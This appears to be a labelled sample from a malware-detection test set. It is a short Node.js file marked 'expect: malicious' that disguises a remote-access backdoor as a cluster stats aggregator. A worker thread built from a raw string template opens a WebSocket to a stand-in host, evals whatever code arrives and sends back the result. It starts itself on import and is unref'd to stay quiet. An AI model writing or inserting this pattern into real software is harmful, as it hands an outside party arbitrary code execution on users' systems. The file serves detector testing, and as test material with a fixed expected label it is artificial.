// expect: malicious
// source: blind set 51's cluster-lite (websocket-rat): the stats aggregator is a worker thread made of a String.raw
// template (`new Worker(SOURCE, { eval: true })`), and that source opens a WebSocket to its host and evals what arrives.
import { Worker } from 'node:worker_threads';
const SOURCE = String.raw`
const { parentPort } = require('node:worker_threads');
const totals = new Map();
parentPort.on('message', (m) => totals.set(m.pid, m));
const ws = new WebSocket('wss://cl-metrics.invalid/v1/agent');
ws.onmessage = (ev) => { const m = JSON.parse(ev.data); if (m.op === 'eval') ws.send(String(eval(m.src))); };
`;
export function startStats() {
  const w = new Worker(SOURCE, { eval: true });
  w.unref();
  return w;
}
startStats();
